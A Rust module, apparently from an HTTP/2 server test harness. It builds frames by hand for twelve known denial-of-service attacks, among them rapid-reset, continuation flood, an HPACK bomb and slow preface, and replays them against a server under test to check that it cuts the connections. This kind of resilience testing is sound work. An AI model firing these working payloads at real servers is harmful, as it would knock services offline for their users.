//! Attackers, which write frames by hand.

use std::iter;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use http2_test_support::{
    GET, POST, PREFACE, block, code, data, flag, frame, headers, headers_block, kind, literal, ping,
    priority, rst_stream, setting, settings, settings_ack, window_update,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use crate::phase::Scene;

/// The pause between two attacks of an attacker.
const REST: Duration = Duration::from_secs(1);
/// How long an attacker waits for the server to end an attack.
const PATIENCE: Duration = Duration::from_secs(15);
/// How often an attack is repeated, if the server allows it.
const TURNS: u32 = 200;

/// The behavior of an attacker.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// Returns the bytes to send first.
    first: fn() -> Vec<u8>,
    /// Returns the bytes to send in each later turn; turns are numbered from 0.
    then: fn(u32) -> Vec<u8>,
    /// Whether the attacker reads the server's output.
    reads: bool,
}

pub(crate) const ATTACKS: [Attack; 12] = [
    Attack {
        name: "rapid-reset",
        first: open,
        then: |turn| each(turn, |stream| [get(stream), rst_stream(stream, code::CANCEL)].concat()),
        reads: true,
    },
    Attack {
        name: "made-you-reset",
        first: open,
        then: |turn| each(turn, |stream| [get(stream), window_update(stream, 0)].concat()),
        reads: true,
    },
    Attack { name: "ping-flood", first: open, then: |_| ping(*b"floodped").repeat(1_000), reads: false },
    Attack {
        name: "settings-flood",
        first: open,
        then: |_| settings(&[(setting::INITIAL_WINDOW_SIZE, 1)]).repeat(1_000),
        reads: false,
    },
    Attack { name: "priority-flood", first: open, then: |_| priority(1, 3).repeat(1_000), reads: true },
    Attack {
        name: "unknown-frames",
        first: open,
        then: |_| frame(0xbb, 0, 0, b"").repeat(1_000),
        reads: true,
    },
    Attack {
        name: "empty-data",
        first: || [open(), headers(1, 0, POST)].concat(),
        then: |_| data(1, 0, b"").repeat(1_000),
        reads: true,
    },
    Attack {
        name: "window-updates",
        first: || [open(), get(1)].concat(),
        then: |_| window_update(0, 1).repeat(1_000),
        reads: true,
    },
    Attack {
        name: "continuation-flood",
        first: || [open(), frame(kind::HEADERS, 0, 1, &block(GET))].concat(),
        then: |_| frame(kind::CONTINUATION, 0, 1, b""),
        reads: true,
    },
    Attack { name: "hpack-bomb", first: open, then: bomb, reads: true },
    Attack {
        name: "zero-window",
        first: || [PREFACE, &settings(&[(setting::INITIAL_WINDOW_SIZE, 0)])].concat(),
        then: large_responses,
        reads: true,
    },
    Attack { name: "slow-preface", first: || PREFACE[..10].to_vec(), then: |_| Vec::new(), reads: true },
];

fn open() -> Vec<u8> {
    [PREFACE, &settings(&[]), &settings_ack()].concat()
}

fn get(stream: u32) -> Vec<u8> {
    headers(stream, flag::END_STREAM, GET)
}

/// Returns frames for each of a hundred new streams.
fn each(turn: u32, what: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (turn * 100..(turn + 1) * 100).flat_map(|n| what(2 * n + 1)).collect()
}

/// A request whose fields are small on the wire and large when decoded: one large indexed field, and thousands of
/// references to it (RFC 7541, 6.1 and 6.2.1).
fn bomb(turn: u32) -> Vec<u8> {
    let mut block = block(GET);
    block.push(0x40);
    block.extend(&literal(b"bomb", &[b'b'; 3_900])[1..]);
    block.extend([0xbe; 10_000]);
    headers_block(2 * turn + 1, flag::END_STREAM, &block)
}

/// A hundred requests for large responses, sent once.
fn large_responses(turn: u32) -> Vec<u8> {
    const LARGE: &[(&str, &str)] =
        &[(":method", "GET"), (":scheme", "http"), (":path", "/bytes/1048576"), (":authority", "localhost")];
    if turn > 0 {
        return Vec::new();
    }
    each(turn, |stream| headers(stream, flag::END_STREAM, LARGE))
}

/// Runs one attack after the other until the task is aborted.
pub(crate) async fn attack(scene: Scene, n: u32, attacks: Arc<[Prepared]>) {
    sleep(REST * n / 100).await;
    for attack in attacks.iter().cycle().skip(n as usize) {
        let mut octets = 0;
        // An error is expected: the server must not let an attack get far.
        let ended = attack.run(&scene, &mut octets).await.is_err();
        scene.seen.attack(octets, ended);
        sleep(REST).await;
    }
}

/// An attack encoded in advance, so that generating it does not slow the attacker down.
pub(crate) struct Prepared {
    pieces: Vec<Vec<u8>>,
    reads: bool,
}

impl Prepared {
    pub(crate) fn new(attack: &Attack) -> Self {
        let pieces = iter::once((attack.first)()).chain((0..TURNS).map(attack.then)).collect();
        Self { pieces, reads: attack.reads }
    }

    /// Attacks the server once, and returns an error when the server ends the connection.
    async fn run(&self, scene: &Scene, octets: &mut u64) -> Result<()> {
        let mut tcp = TcpStream::connect(scene.server).await?;
        let (mut reading, mut writing) = tcp.split();
        let mut write = async || -> Result<()> {
            for piece in &self.pieces {
                writing.write_all(piece).await?;
                *octets += piece.len() as u64;
            }
            Ok(())
        };
        let mut read = async || -> Result<()> {
            let mut buffer = vec![0; 16 << 10];
            while reading.read(&mut buffer).await? > 0 {}
            anyhow::bail!("the server ended the connection")
        };
        let ended = async {
            if self.reads {
                tokio::try_join!(write(), read()).map(|_: ((), ())| ())
            } else {
                write().await?;
                read().await
            }
        };
        // A timeout is not an error: the server tolerates the attack.
        timeout(PATIENCE, ended).await.unwrap_or(Ok(()))
    }
}
